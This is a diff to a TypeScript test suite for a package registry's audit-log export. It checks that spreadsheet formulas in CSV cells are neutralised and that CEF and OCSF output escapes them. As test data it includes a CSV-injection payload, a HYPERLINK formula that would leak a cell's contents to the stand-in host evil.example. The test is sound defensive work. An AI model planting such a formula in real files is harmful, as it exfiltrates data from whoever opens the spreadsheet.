@@ -11,10 +11,14 @@ import { rssDuring } from '../support/generic-curl.js';
 import { REPO_ROOT, startTrove, tempDir, type RunningTrove } from '../support/trove-process.js';
 import { World, type TestUser } from '../support/world.js';
 import { buildAuditScenario, PNPM_UA, publishAroundMark } from '../support/audit-scenario.js';
+import { packageTarball, publishBody } from '../support/npm-publish-body.js';
 
 // SPEC 4.6: GET .../audit_events/export in four formats, with the filters (4.5) and visibility
 // (4.2) of the list endpoints, each export audited once; constant memory over a large log; and
 // `trove audit export` on the same data.
+
+// A refused request's package name that a spreadsheet would run (SPEC 7: CSV cells are neutralised).
+const FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click me")';
 
 // Everything CEF must escape: pipe (header), equals sign (extension), backslash (both), line breaks.
 const NASTY = 'use 2.x | not a=b \\ c:\\temp\nsecond line "quoted", too';
@@ -25,16 +29,19 @@ const CSV_HEADER = [
   'Package Format', 'Package Name', 'Version', 'Seq', 'UUID',
 ];
 
-/** The CSV row the export must write for a record the list API served (written independently of the exporter). */
+/**
+ * The CSV row the export must write for a record the list API served (written independently of the
+ * exporter): texts a spreadsheet would run as a formula start with ' (OWASP), numbers stay numbers.
+ */
 function expectedCsvRow(e: any): string[] {
-  const text = (v: unknown) => (v === null || v === undefined ? '' : String(v));
+  const text = (v: unknown) => (v === null || v === undefined ? '' : typeof v === 'number' ? String(v) : String(v).replace(/^[=+\-@\t\r]/, "'$&"));
   return [
-    text(e.id), text(e.author_id), text(e.details.author_name), text(e.entity_id), e.entity_type, text(e.details.entity_path),
-    text(e.details.target_id), e.details.target_type, e.details.target_details, e.details.custom_message, text(e.ip_address),
-    e.created_at, e.outcome, e.actor.type, text(e.actor.token_name), e.via,
+    text(e.id), text(e.author_id), text(e.details.author_name), text(e.entity_id), text(e.entity_type), text(e.details.entity_path),
+    text(e.details.target_id), text(e.details.target_type), text(e.details.target_details), text(e.details.custom_message), text(e.ip_address),
+    text(e.created_at), text(e.outcome), text(e.actor.type), text(e.actor.token_name), text(e.via),
     e.client ? (e.client.version ? `${e.client.name}/${e.client.version}` : e.client.name) : '',
     text(e.pipeline?.id), text(e.project?.full_path), text(e.package?.format), text(e.package?.name), text(e.package?.version),
-    text(e.seq), e.uuid,
+    text(e.seq), text(e.uuid),
   ];
 }
 
@@ -139,6 +146,12 @@ describe('audit events export', () => {
       versions: { '1.0.0': { name: '@acme/a', version: '1.0.0', deprecated: NASTY } },
     });
     assert.equal(deprecate.status, 200, deprecate.text);
+    // A refused publish whose name is a spreadsheet formula: audited with the name as sent.
+    const hostile = await dev.api.put(
+      `/api/v4/projects/${webApp.id}/packages/npm/${encodeURIComponent(FORMULA)}`,
+      publishBody(FORMULA, '1.0.0', await packageTarball('x', '1.0.0')),
+    );
+    assert.equal(hostile.status, 400, hostile.text);
   });
 
   after(async () => {
@@ -201,6 +214,28 @@ describe('audit events export', () => {
     const afterMark = await listed(owner.api, acmeEvents(), `&created_after=${encodeURIComponent(mark)}`);
     const filtered: string[][] = parseCsv((await exportOf(owner.api, acmeEvents(), 'csv', `&created_after=${encodeURIComponent(mark)}`)).text);
     assert.deepEqual(filtered.slice(1), afterMark.map(expectedCsvRow));
+  });
+
+  it("neutralises spreadsheet formulas in CSV cells with a leading ' (OWASP); CEF and OCSF carry them escaped", async () => {
+    const [denied] = await listed(owner.api, acmeEvents(), `&event_name=package_registry_package_publish_denied&package_name=${encodeURIComponent(FORMULA)}`);
+    assert.equal(denied.package.name, FORMULA, 'the list API serves the record as stored');
+    const res = await exportOf(owner.api, acmeEvents(), 'csv', '&include_subgroups=true');
+    assert.equal(res.status, 200, res.text);
+    const rows: string[][] = parseCsv(res.text);
+    const row = rows.find((r) => r[0] === String(denied.id))!;
+    assert.equal(row[CSV_HEADER.indexOf('Package Name')], `'${FORMULA}`);
+    assert.equal(row[CSV_HEADER.indexOf('Target Details')], `acme/web-app/${FORMULA}@1.0.0`);
+    assert.ok(res.text.includes(`"'${FORMULA.replaceAll('"', '""')}"`), 'the raw field: quoted, inner quotes doubled, after the leading quote');
+    // No cell of the whole export begins a formula: only Trove's own numbers may begin with '-'.
+    const risky = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+$/.test(cell));
+    assert.deepEqual(risky, []);
+    assert.ok(rows.some((r) => r[CSV_HEADER.indexOf('Package Name')] === "'@acme/a"), 'a scoped npm name begins with @ too');
+
+    const cef = lines((await exportOf(owner.api, acmeEvents(), 'cef', '&include_subgroups=true')).text).find((l) => l.includes(denied.uuid))!;
+    assert.ok(cef.includes(`cs4=npm:${FORMULA.replaceAll('=', '\\=')}`), cef);
+    assert.equal(parseCef(cef).ext.cs4, `npm:${FORMULA}@1.0.0`);
+    const ocsf = lines((await exportOf(owner.api, acmeEvents(), 'ocsf', '&include_subgroups=true')).text).map((l) => JSON.parse(l));
+    assert.equal(ocsf.find((o) => o.metadata.uid === denied.uuid).unmapped.package.name, FORMULA);
   });
 
   it('exports OCSF: API Activity (6003) for package events, Entity Management (3004) for credentials', async () => {
